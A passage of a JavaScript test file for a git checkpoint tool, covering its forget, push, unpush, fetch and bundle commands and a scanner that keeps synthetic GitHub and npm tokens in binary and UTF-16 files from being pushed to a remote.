  const text = await ckpt(a, ['forget', '--path', 'creds.txt']);
  t.is(text.code, 0, text.stderr);
  t.regex(
    text.stdout,
    new RegExp(
      `still on ckpt \\(${url}\\): session pushed-s as it was pushed; git ckpt unpush --session pushed-s deletes its ref there \\(the host keeps the objects until it purges them\\)`,
    ),
  );
  t.regex(text.stdout, new RegExp(`still in ${bundle}, a bundle this store made`));
  t.false(text.stdout.includes('other-s'), 'a session that never held it is not named');
  t.false(anyObjectHolds(a, path.join(storeDir(a), 'git'), 'hunter2'), 'the export chain that held it left the store too');

  // The remote still has the old chain: the push is refused with the step, and the ref is untouched.
  const refused = await ckpt(a, ['push', '--session', 'pushed-s']);
  t.is(refused.code, 1);
  t.regex(
    refused.stdout,
    /rejected: the remote holds this session's checkpoints as they were before git ckpt forget .* git ckpt unpush --session pushed-s deletes that ref/,
  );
  t.is(git(a, remote, ['rev-parse', ref]).trim(), tipBefore, 'nothing forced');
  t.is((await ckpt(a, ['unpush', '--session', 'pushed-s'])).code, 0);
  const again = await ckptJson(a, ['push', '--session', 'pushed-s']);
  t.is(again.sessions[0].status, 'pushed');
  const pushedFiles = git(a, remote, ['log', '--format=', '--name-only', again.sessions[0].tip]);
  t.false(pushedFiles.includes('creds.txt'));
  t.is(shareState(a).dropped, undefined, 'nothing is remembered as held there any more');
  t.is((await ckpt(a, ['fsck'])).code, 0);
});

test("a fetch and a bundle import keep no tracking ref of this store's own chains, and get past one whose tip the store lost: a forget of what was pushed does not break the next fetch", async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'app.txt', 'app\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'own-s', [() => write(a, 'creds.txt', 'hunter2\n')]);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  await ckptJson(a, ['push', '--session', 'own-s']);
  const bundle = path.join(a.base, 'own.bundle');
  await ckptJson(a, ['bundle', 'create', bundle, '--session', 'own-s']);
  const tracking = () => git(a, path.join(storeDir(a), 'git'), ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote']).trim();
  // This store's own chain comes back through the remote and the bundle: nothing to track.
  t.is((await ckpt(a, ['fetch'])).code, 0);
  t.is((await ckpt(a, ['bundle', 'import', bundle])).code, 0);
  t.is(tracking(), '', 'no tracking ref of its own chain');
  // A store an older git-ckpt left with such a ref, whose chain a forget then dropped with its objects.
  const own = git(a, remote, ['for-each-ref', '--format=%(objectname) %(refname)', 'refs/ckpt']).trim().split(' ');
  git(a, path.join(storeDir(a), 'git'), ['update-ref', own[1].replace('refs/ckpt/v1/', 'refs/ckpt-remote/ckpt/'), own[0]]);
  t.is((await ckpt(a, ['forget', '--path', 'creds.txt'])).code, 0);
  const fetched = await ckpt(a, ['fetch']);
  t.is(fetched.code, 0, fetched.stderr);
  t.is(tracking(), '');
  t.is((await ckpt(a, ['fsck'])).code, 0);
});

test('S2: a credential in a binary file (a SQLite page) or in UTF-16 text (either byte order, with or without a mark) withholds its checkpoint; a verdict the old scan cached is read again', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'base.txt', 'base\n');
  await ckptJson(a, ['snapshot']);
  const github = `ghp_${'a1B2c3D4e5'.repeat(4)}`;
  const npm = `npm_${'A1b2C3d4E5'.repeat(3)}abcdef`;
  const files = {
    's-bin': [
      'dev.sqlite3',
      Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(200), Buffer.from(`\x05\x17${github}\0`), Buffer.alloc(9000)]),
    ],
    's-le': ['notes-le.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`token: ${npm}\r\n`, 'utf16le')])],
    's-be': ['notes-be.txt', Buffer.from(`token=${github}\n`, 'utf16le').swap16()],
    's-clean': ['clean.bin', Buffer.concat([Buffer.alloc(100), Buffer.from('no credential here'), Buffer.alloc(100)])],
  };
  for (const [id, [file, bytes]] of Object.entries(files)) {
    await session(a, id, [() => writeFileSync(path.join(a.ws, file), bytes)]);
    rmSync(path.join(a.ws, file));
    await ckptJson(a, ['snapshot']);
  }
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  // What an older git-ckpt's scan cached for the SQLite file: no credential (it skipped binary files).
  const { FILE_RULES_VERSION } = await import(libPath('redact'));
  const oldKey = createHash('sha256').update(FILE_RULES_VERSION).digest('hex').slice(0, 16);
  const sqliteBlob = spawnSync('git', ['hash-object', '--stdin'], { input: files['s-bin'][1], encoding: 'utf8' }).stdout.trim();
  writeFileSync(
    path.join(storeDir(a), 'share.json'),
    JSON.stringify({ ...shareState(a), scanned: { [sqliteBlob]: '' }, scannedWith: oldKey }),
  );

  const dry = await ckptJson(a, ['push', '--all', '--dry-run']);
  const by = Object.fromEntries(dry.sessions.map((s) => [s.session, s]));
  t.like(by['s-bin'].withheld, { path: 'dev.sqlite3', count: 1 });
  t.regex(by['s-bin'].withheld.rule, /GitHub token/);
  t.like(by['s-le'].withheld, { path: 'notes-le.txt', line: 1 });
  t.regex(by['s-le'].withheld.rule, /npm token/);
  t.like(by['s-be'].withheld, { path: 'notes-be.txt' });
  t.is(by['s-clean'].withheld, null);
  await ckptJson(a, ['push', '--all']);
  const onRemote = spawnSync('git', ['--git-dir', remote, 'cat-file', '--batch-all-objects', '--batch'], {
    env: a.env,
    maxBuffer: 1 << 28,
  }).stdout;
  t.false(onRemote.includes(Buffer.from(github)), 'the GitHub token never reached the remote');
  t.false(onRemote.includes(Buffer.from(npm, 'utf16le')));
  t.true(onRemote.includes(Buffer.from('no credential here')), 'a binary file without one goes');
});

test('a fetched chain is forgotten only when named: its session (or one of its checkpoints and what follows it), with its tracking ref; a later fetch brings it back', async (t) => {
  const a = machine();
  const b = machine();
  const remote = bareRemote(a);
  write(a, 'f.txt', '0\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'theirs', [() => write(a, 'f.txt', '1\n'), () => write(a, 'f.txt', '2\n')]);
  const { ws, writer } = await ckptJson(a, ['share', 'init', '--remote', remote]);
  await ckptJson(a, ['push']);
  write(b, 'b.txt', 'b\n');
  await ckptJson(b, ['snapshot']);
  await ckptJson(b, ['share', 'init', '--remote', remote, '--ws', ws]);
  await ckptJson(b, ['fetch']);
  const shadow = path.join(storeDir(b), 'git');
  const tracked = () => git(b, shadow, ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote/']).trim();
  t.not(tracked(), '');
  const [latest, first] = (await ckptJson(b, ['log'])).filter((r) => r.origin && r.session !== null);

  // Naming a checkpoint of it: that one and every later one of its chain go.
  const one = await ckptJson(b, ['forget', latest.id.slice(0, 10)]);
  t.deepEqual(one.fetchedDropped, [{ session: `theirs@${writer}`, checkpoints: 1, remotes: ['ckpt'] }]);
  t.is(one.dropped.length, 0, 'nothing of this workspace');
  t.is(tracked(), '', 'its tracking ref goes with it');
  t.is((await ckpt(b, ['fsck'])).code, 0);
  t.is((await ckpt(b, ['restore', first.id, '--dry-run'])).code, 0, 'what came before it stays');
  // Naming the session: all of it, and its base.
  const whole = await ckpt(b, ['forget', '--session', `theirs@${writer.slice(0, 6)}`]);
  t.is(whole.code, 0, whole.stderr);
  t.regex(whole.stdout, /fetched: dropped 2 checkpoints of theirs@[0-9a-f]{12} \(from ckpt; a later git ckpt fetch brings them back/);
  t.false(
    (await ckptJson(b, ['log'])).some((r) => r.origin),
    'none is left',
  );
  t.is((await ckpt(b, ['fsck'])).code, 0);
  t.is((await ckptJson(b, ['log'])).length, 1, "B's own checkpoint stays");
  // The remote still has it: a fetch brings it back whole.
  t.like((await ckptJson(b, ['fetch'])).fetched, [{ session: 'theirs', added: 3 }]);
});

test('checkpoints of no session are named --session _none wherever a session is asked for: forget names them so, unpush and push take it', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'app.txt', 'app\n');
  await ckptJson(a, ['snapshot']);
  write(a, 'creds.txt', 'hunter2\n');
  await ckptJson(a, ['snapshot']);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  t.like((await ckptJson(a, ['push', '--all'])).sessions, [{ session: null, status: 'pushed' }]);
  const forgot = await ckpt(a, ['forget', '--path', 'creds.txt']);
  t.regex(forgot.stdout, /git ckpt unpush --session _none deletes its ref there/);
  const refused = await ckpt(a, ['push', '--all']);
  t.regex(refused.stdout, /git ckpt unpush --session _none deletes that ref/);
  t.is((await ckpt(a, ['unpush', '--session', '_none'])).code, 0);
  t.like((await ckptJson(a, ['push', '--session', '_none'])).sessions, [{ session: null, status: 'pushed' }]);
  const pushed = git(a, remote, ['log', '--format=', '--name-only', '--all']);
  t.false(pushed.includes('creds.txt'));
});
